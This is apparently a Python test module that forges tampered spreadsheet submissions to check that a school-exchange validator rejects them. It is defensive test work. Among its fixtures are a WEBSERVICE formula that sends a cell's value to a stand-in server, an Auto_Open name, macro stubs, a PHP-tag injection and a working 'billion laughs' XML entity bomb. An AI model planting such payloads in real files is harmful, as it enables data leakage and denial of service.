"""Submissions whose sheets hide, compute, link, mangle or burst (rule 19).

Each is signed by the school's own key after the change, so that the package signature holds.
"""

from __future__ import annotations

import re

from ctecs_desktop.exchange.container import pack
from tests.exchange.package_building import replace_once, unpack
from tests.faults.submission_case import (
    GOAL,
    WORKBOOK,
    Forger,
    Parts,
    cell_xml,
    number_cell,
    part_of,
    submission_case,
    text_cell,
    with_number_format,
)

TYPES, WORKBOOK_RELS = "[Content_Types].xml", "xl/_rels/workbook.xml.rels"
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SPREADSHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml"
BEFORE_PRINT = "<printOptions "


def _with_part(parts: Parts, name: str, content: bytes, *, content_type: str, kind: str = "") -> Parts:
    """The parts and one more, with a relationship from the workbook to it where ``kind`` names its type."""
    override = f'<Override PartName="/{name}" ContentType="{content_type}"/></Types>'
    parts = {**parts, name: content, TYPES: replace_once(parts[TYPES].decode(), "</Types>", override).encode()}
    if kind:
        row = f'<Relationship Id="rIdMore" Type="{RELATIONSHIPS}/{kind}" Target="/{name}"/></Relationships>'
        parts[WORKBOOK_RELS] = replace_once(parts[WORKBOOK_RELS].decode(), "</Relationships>", row).encode()
    return parts


def _added(forger: Forger, section: str, *, before: str = BEFORE_PRINT) -> bytes:
    """The first goal's sheet with one more section."""
    return forger.sheet(GOAL, before, section + before)


@submission_case("workbook.hidden_sheet", rule=19)
def a_sheet_that_is_hidden(forger: Forger) -> bytes:
    old = 'name="Names" sheetId="7" state="visible"'
    return forger.edited(WORKBOOK, old, old.replace("visible", "hidden"))


@submission_case("workbook.hidden_sheet", rule=19)
def a_seal_that_only_macros_can_show(forger: Forger) -> bytes:
    old = 'name="Seal" sheetId="11" state="visible"'
    return forger.edited(WORKBOOK, old, old.replace("visible", "veryHidden"))


@submission_case("workbook.hidden_window", rule=19)
def a_window_that_is_hidden(forger: Forger) -> bytes:
    return forger.edited(WORKBOOK, 'visibility="visible"', 'visibility="hidden"')


@submission_case("sheet.hidden_row", rule=19)
def a_row_that_is_hidden(forger: Forger) -> bytes:
    return forger.sheet(GOAL, '<row r="5"', '<row hidden="1" r="5"')


@submission_case("sheet.hidden_row", rule=19)
def a_row_of_no_height(forger: Forger) -> bytes:
    return forger.sheet(GOAL, '<row r="5" ht="33"', '<row r="5" ht="0"')


@submission_case("sheet.hidden_rows", rule=19)
def all_rows_hidden_at_once(forger: Forger) -> bytes:
    return forger.sheet(GOAL, "<sheetFormatPr ", '<sheetFormatPr zeroHeight="1" ')


@submission_case("sheet.hidden_column", rule=19)
def a_column_that_is_hidden(forger: Forger) -> bytes:
    return forger.sheet(GOAL, '<col width="12" customWidth="1" min="5"', '<col width="12" hidden="1" min="5"')


@submission_case("sheet.hidden_column", rule=19)
def a_column_as_thin_as_a_hair(forger: Forger) -> bytes:
    return forger.sheet(GOAL, '<col width="12" customWidth="1" min="5"', '<col width="0.1" customWidth="1" min="5"')


@submission_case("cell.formula", rule=19)
def a_formula_with_the_signed_number_as_its_cached_value(forger: Forger) -> bytes:
    return forger.cell(GOAL, "E5", lambda cell: cell.replace("<v>", "<f>64+0*NOW()</f><v>"))


@submission_case("cell.formula", rule=19)
def a_formula_in_a_namespace_prefix(forger: Forger) -> bytes:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return forger.cell(GOAL, "E5", lambda cell: cell.replace("<v>", f'<x:f xmlns:x="{main}">64</x:f><v>'))


@submission_case("cell.formula", rule=19)
def an_array_formula_over_all_values(forger: Forger) -> bytes:
    array = '<f t="array" ref="E5:E84">64</f><v>'
    return forger.cell(GOAL, "E5", lambda cell: cell.replace("<v>", array))


@submission_case("cell.formula", rule=19)
def a_formula_that_asks_a_server(forger: Forger) -> bytes:
    call = '<f>WEBSERVICE("http://a/?"&amp;E6)</f><v>'
    return forger.cell(GOAL, "E5", lambda cell: cell.replace("<v>", call))


@submission_case("workbook.formula", rule=19)
def a_calculation_chain(forger: Forger) -> bytes:
    chain = b'<calcChain><c r="E5" i="2"/></calcChain>'
    return forger.signed(
        _with_part(forger.parts, "xl/calcChain.xml", chain, content_type=f"{SPREADSHEET}.calcChain+xml")
    )


@submission_case("cell.twice", rule=19)
def a_value_given_twice_in_one_row(forger: Forger) -> bytes:
    return forger.cell(GOAL, "E5", lambda cell: cell + cell.replace("164", "64"))


@submission_case("sheet.row_order", rule=19)
def a_row_given_twice(forger: Forger) -> bytes:
    return forger.sheet(GOAL, "</sheetData>", '<row r="5"><c r="E5"><v>64</v></c></row></sheetData>')


@submission_case("sheet.section_twice", rule=19)
def a_second_set_of_cells(forger: Forger) -> bytes:
    again = '</sheetData><sheetData><row r="5"><c r="E5"><v>64</v></c></row></sheetData>'
    return forger.sheet(GOAL, "</sheetData>", again)


@submission_case("cell.address", rule=19)
def a_cell_with_the_address_of_another_row(forger: Forger) -> bytes:
    return forger.sheet(GOAL, '<c r="E5"', '<c r="E6"')


@submission_case("cell.address", rule=19)
def a_cell_without_an_address(forger: Forger) -> bytes:
    return forger.sheet(GOAL, '<c r="E5"', "<c")


@submission_case("cell.address", rule=19)
def a_cell_with_an_address_of_lower_case(forger: Forger) -> bytes:
    return forger.sheet(GOAL, '<c r="E5"', '<c r="e5"')


@submission_case("sheet.merged_cells", rule=19)
def a_value_merged_over_the_next(forger: Forger) -> bytes:
    return _added(forger, '<mergeCells count="1"><mergeCell ref="E5:E6"/></mergeCells>')


@submission_case("sheet.merged_cells", rule=19)
def a_merge_of_the_whole_sheet(forger: Forger) -> bytes:
    return _added(forger, '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>')


@submission_case("workbook.defined_name", rule=19)
def a_name_for_a_cell(forger: Forger) -> bytes:
    name = "<definedNames><definedName name=\"Total\">'Goal 1'!$E$5</definedName>"
    return forger.edited(WORKBOOK, "<definedNames>", name)


@submission_case("workbook.defined_name", rule=19)
def a_print_area_that_computes(forger: Forger) -> bytes:
    return forger.edited(WORKBOOK, "'Goal 1'!$A$1:$J$84", "OFFSET('Goal 1'!$A$1,1,1)")


@submission_case("workbook.defined_name", rule=19)
def a_name_that_runs_at_opening(forger: Forger) -> bytes:
    name = "<definedNames><definedName name=\"Auto_Open\">'Goal 1'!$A$1</definedName>"
    return forger.edited(WORKBOOK, "<definedNames>", name)


@submission_case("package.active_content", rule=19)
def a_link_to_a_workbook_elsewhere(forger: Forger) -> bytes:
    kind = f"{SPREADSHEET}.externalLink+xml"
    return pack(
        _with_part(unpack(forger.sound), "xl/externalLinks/link1.xml", b"<a/>", content_type=kind, kind="externalLink")
    )


@submission_case("package.external_relationship", rule=6)
def a_relationship_to_a_server(forger: Forger) -> bytes:
    row = f'<Relationship Id="rIdOut" Type="{RELATIONSHIPS}/hyperlink" Target="http://a/" TargetMode="External"/>'
    return forger.put_in(WORKBOOK_RELS, "</Relationships>", f"{row}</Relationships>")


@submission_case("workbook.external_link", rule=19)
def a_reference_to_a_workbook_elsewhere(forger: Forger) -> bytes:
    return forger.edited(WORKBOOK, "<definedNames>", "<externalReferences/><definedNames>")


@submission_case("sheet.data_validation", rule=19)
def a_list_to_choose_from(forger: Forger) -> bytes:
    rule = '<dataValidation type="list" sqref="E5"><formula1>"64,65"</formula1></dataValidation>'
    return _added(forger, f'<dataValidations count="1">{rule}</dataValidations>')


@submission_case("package.macros", rule=19)
def a_macro_in_a_submission(forger: Forger) -> bytes:
    kind = "application/vnd.ms-office.vbaProject"
    return pack(_with_part(unpack(forger.sound), "xl/vbaProject.bin", b"\xd0\xcf\x11\xe0", content_type=kind))


@submission_case("sheet.link", rule=19)
def a_link_over_a_value(forger: Forger) -> bytes:
    return _added(forger, '<hyperlinks><hyperlink ref="E5" location="Seal!A1"/></hyperlinks>')


@submission_case("sheet.conditional_format", rule=19)
def a_format_that_depends_on_the_value(forger: Forger) -> bytes:
    rule = '<cfRule type="cellIs" priority="1" operator="greaterThan"><formula>100</formula></cfRule>'
    return _added(forger, f'<conditionalFormatting sqref="E5:E84">{rule}</conditionalFormatting>')


@submission_case("sheet.filter", rule=19)
def a_filter_over_the_table(forger: Forger) -> bytes:
    return _added(forger, '<autoFilter ref="A4:J84"/>')


@submission_case("sheet.table", rule=19)
def a_table_object(forger: Forger) -> bytes:
    return _added(forger, '<tableParts count="0"/>', before="</worksheet>")


@submission_case("sheet.drawing", rule=19)
def a_picture_over_the_values(forger: Forger) -> bytes:
    return _added(forger, "<drawing/>", before="<ignoredErrors>")


@submission_case("workbook.drawing", rule=19)
def a_picture_that_lies_in_the_workbook(forger: Forger) -> bytes:
    picture = b"\x89PNG\r\n\x1a\n"
    parts = _with_part(forger.parts, "xl/media/image1.png", picture, content_type="image/png", kind="image")
    return forger.signed(parts)


@submission_case("workbook.comment", rule=19)
def a_comment_at_a_value(forger: Forger) -> bytes:
    kind = f"{SPREADSHEET}.comments+xml"
    return forger.signed(
        _with_part(forger.parts, "xl/comments/comment1.xml", b"<comments/>", content_type=kind, kind="comments")
    )


@submission_case("sheet.embedded_object", rule=19)
def an_object_of_another_program(forger: Forger) -> bytes:
    return _added(forger, "<oleObjects/>", before="<ignoredErrors>")


@submission_case("package.macros", rule=19)
def a_control_that_runs_a_program(forger: Forger) -> bytes:
    kind = "application/vnd.ms-office.activeX+xml"
    return pack(_with_part(unpack(forger.sound), "xl/activeX/activeX1.xml", b"<a/>", content_type=kind))


@submission_case("workbook.embedded_object", rule=19)
def a_document_embedded_in_the_workbook(forger: Forger) -> bytes:
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    return forger.signed(_with_part(forger.parts, "xl/embeddings/document1.docx", b"PK", content_type=kind))


@submission_case("workbook.unexpected_part", rule=19)
def a_part_that_no_workbook_of_ours_has(forger: Forger) -> bytes:
    parts = _with_part(forger.parts, "xl/metadata.xml", b"<a/>", content_type=f"{SPREADSHEET}.sheetMetadata+xml")
    return forger.signed(parts)


@submission_case("workbook.stray_sheet", rule=19)
def a_sheet_that_the_workbook_does_not_list_and_that_is_signed_too(forger: Forger) -> bytes:
    parts = forger.parts
    kind = f"{SPREADSHEET}.worksheet+xml"
    return forger.signed(
        _with_part(parts, "xl/worksheets/sheet12.xml", parts[part_of(GOAL)], content_type=kind, kind="worksheet")
    )


def _with_sheet(parts: Parts, name: str) -> Parts:
    kind = f"{SPREADSHEET}.worksheet+xml"
    parts = _with_part(parts, "xl/worksheets/sheet12.xml", parts[part_of(GOAL)], content_type=kind, kind="worksheet")
    sheet = f'<sheet xmlns:r="{RELATIONSHIPS}" name="{name}" sheetId="12" r:id="rIdMore"/></sheets>'
    return {**parts, WORKBOOK: replace_once(parts[WORKBOOK].decode(), "</sheets>", sheet).encode()}


@submission_case("workbook.sheets", rule=19)
def one_sheet_more(forger: Forger) -> bytes:
    return forger.signed(_with_sheet(forger.parts, "Goal 6"))


@submission_case("workbook.sheet_not_found", rule=19)
def two_sheets_of_one_name(forger: Forger) -> bytes:
    return forger.signed(_with_sheet(forger.parts, GOAL))


@submission_case("workbook.sheets", rule=19)
def a_sheet_under_another_name(forger: Forger) -> bytes:
    return forger.edited(WORKBOOK, 'name="Names"', 'name="Namen"')


@submission_case("workbook.sheets", rule=19)
def a_sheet_taken_out(forger: Forger) -> bytes:
    parts = forger.parts
    xml, rels, types = (parts[name].decode() for name in (WORKBOOK, WORKBOOK_RELS, TYPES))
    parts[WORKBOOK] = re.sub(r'<sheet [^>]*name="Names"[^>]*/>', "", xml).encode()
    parts[WORKBOOK_RELS] = re.sub(r'<Relationship [^>]*Id="rId7"[^>]*/>', "", rels).encode()
    parts[TYPES] = re.sub(r'<Override PartName="/xl/worksheets/sheet7.xml"[^>]*/>', "", types).encode()
    del parts[part_of("Names")]
    return forger.signed(parts)


@submission_case("workbook.unknown_kind", rule=19)
def a_submission_without_its_seal(forger: Forger) -> bytes:
    return forger.edited(WORKBOOK, 'name="Seal"', 'name="Sealed"')


@submission_case("workbook.unknown_kind", rule=19)
def a_workbook_of_two_kinds(forger: Forger) -> bytes:
    parts = forger.parts
    text = parts[WORKBOOK].decode().replace('name="Names"', 'name="Plan"').replace('name="Changes"', 'name="About"')
    return forger.signed({**parts, WORKBOOK: text.encode()})


@submission_case("cell.number_instead_of_text", rule=19)
def two_goals_sheets_exchanged(forger: Forger) -> bytes:
    parts = forger.parts
    first, third = part_of(GOAL), part_of("Goal 3")
    parts[first], parts[third] = parts[third], parts[first]
    return forger.signed(parts)


@submission_case("cell.text_instead_of_number", rule=19)
def a_number_stored_as_text(forger: Forger) -> bytes:
    return forger.cell(GOAL, "E5", text_cell("164"))


@submission_case("cell.text_instead_of_number", rule=19)
def a_truth_value_where_a_number_belongs(forger: Forger) -> bytes:
    return forger.cell(GOAL, "E5", lambda cell: cell.replace('t="n"><v>164', 't="b"><v>1'))


@submission_case("cell.number_instead_of_text", rule=19)
def a_measures_code_of_1_10_mangled_to_1_1(forger: Forger) -> bytes:
    found = re.search(r'<c r="(A[0-9]+)"[^>]*><is><t>1\.10</t>', forger.parts[part_of(GOAL)].decode())
    assert found
    return forger.cell(GOAL, found[1], number_cell("1.1"))


@submission_case("cell.number_instead_of_text", rule=19)
def a_schools_code_stored_as_a_number(forger: Forger) -> bytes:
    return forger.cell("Sign-off", "B6", number_cell("9001116"))


def _formatted(forger: Forger, address: str, number: str, code: str) -> bytes:
    """A cell of the first goal's sheet that holds the number and shows it by the format ``code``."""
    parts, style = with_number_format(forger.parts, code)
    old = cell_xml(parts, GOAL, address)
    text = parts[part_of(GOAL)].decode()
    parts[part_of(GOAL)] = replace_once(text, old, number_cell(number, style=style)(old)).encode()
    return forger.signed(parts)


@submission_case("cell.date_instead_of_number", rule=19)
def a_number_that_excel_turned_into_a_date(forger: Forger) -> bytes:
    return _formatted(forger, "E5", "164", "yyyy\\-mm\\-dd")


@submission_case("cell.date_instead_of_number", rule=19)
def a_date_in_iso_form_where_a_number_belongs(forger: Forger) -> bytes:
    return forger.cell(GOAL, "E5", lambda cell: cell.replace('t="n"><v>164', 't="d"><v>1900-06-12'))


@submission_case("cell.date_instead_of_text", rule=19)
def a_measures_code_that_excel_turned_into_a_date(forger: Forger) -> bytes:
    return _formatted(forger, "A5", "36892", "d\\-mmm")


@submission_case("cell.number_format", rule=19)
def a_number_shown_as_another_number(forger: Forger) -> bytes:
    return _formatted(forger, "E5", "164", "&quot;64&quot;")


@submission_case("cell.number_format", rule=19)
def a_number_that_its_format_hides(forger: Forger) -> bytes:
    return _formatted(forger, "E5", "164", ";;;")


@submission_case("cell.error", rule=19)
def an_error_where_a_number_belongs(forger: Forger) -> bytes:
    return forger.cell(GOAL, "E5", lambda cell: cell.replace('t="n"><v>164', 't="e"><v>#REF!'))


@submission_case("cell.kind", rule=19)
def a_cell_of_a_kind_that_there_is_not(forger: Forger) -> bytes:
    return forger.cell(GOAL, "E5", lambda cell: cell.replace('t="n"', 't="x"'))


@submission_case("cell.shared_text", rule=19)
def a_text_by_a_number_that_leads_nowhere(forger: Forger) -> bytes:
    return forger.cell(GOAL, "J5", lambda _: '<c r="J5" s="20" t="s"><v>7</v></c>')


@submission_case("sheet.unexpected_element", rule=19)
def two_contents_in_one_cell(forger: Forger) -> bytes:
    return forger.cell(GOAL, "E5", lambda cell: cell.replace("</v>", "</v><v>64</v>"))


@submission_case("sheet.unexpected_element", rule=19)
def an_extension_behind_the_sheet(forger: Forger) -> bytes:
    return _added(forger, "<extLst/>", before="</worksheet>")


@submission_case("cell.not_in_layout", rule=19)
def a_number_where_nothing_belongs(forger: Forger) -> bytes:
    return forger.cell(GOAL, "G6", number_cell("12"))


@submission_case("cell.not_in_layout", rule=19)
def a_remark_far_below_the_table(forger: Forger) -> bytes:
    far = '<row r="900"><c r="L900" t="inlineStr"><is><t>Disregard the values above</t></is></c></row></sheetData>'
    return forger.sheet(GOAL, "</sheetData>", far)


@submission_case("sheet.too_large", rule=19)
def a_cell_at_xfd1048576(forger: Forger) -> bytes:
    far = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    return forger.sheet(GOAL, "</sheetData>", far)


@submission_case("sheet.markup", rule=19)
def a_comment_between_the_cells(forger: Forger) -> bytes:
    return forger.sheet(GOAL, "</sheetData>", "<!-- hidden --></sheetData>")


@submission_case("sheet.markup", rule=19)
def an_instruction_between_the_cells(forger: Forger) -> bytes:
    return forger.sheet(GOAL, "</sheetData>", "<?php evil?></sheetData>")


@submission_case("sheet.markup", rule=19)
def a_number_in_a_cdata_section(forger: Forger) -> bytes:
    return forger.cell(GOAL, "E5", lambda cell: cell.replace("164", "<![CDATA[164]]>"))


@submission_case("sheet.markup", rule=19)
def text_between_the_cells(forger: Forger) -> bytes:
    return forger.sheet(GOAL, "</sheetData>", "64</sheetData>")


@submission_case("sheet.damaged", rule=19)
def a_sheet_that_is_no_xml(forger: Forger) -> bytes:
    return forger.sheet(GOAL, "</sheetData>", "</sheetdata>")


@submission_case("package.doctype", rule=4)
def a_billion_laughs_in_a_submission(forger: Forger) -> bytes:
    entities = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))
    bomb = f'<!DOCTYPE worksheet [<!ENTITY l0 "lol">{entities}]><worksheet '
    return forger.put_in(part_of(GOAL), "<worksheet ", bomb)
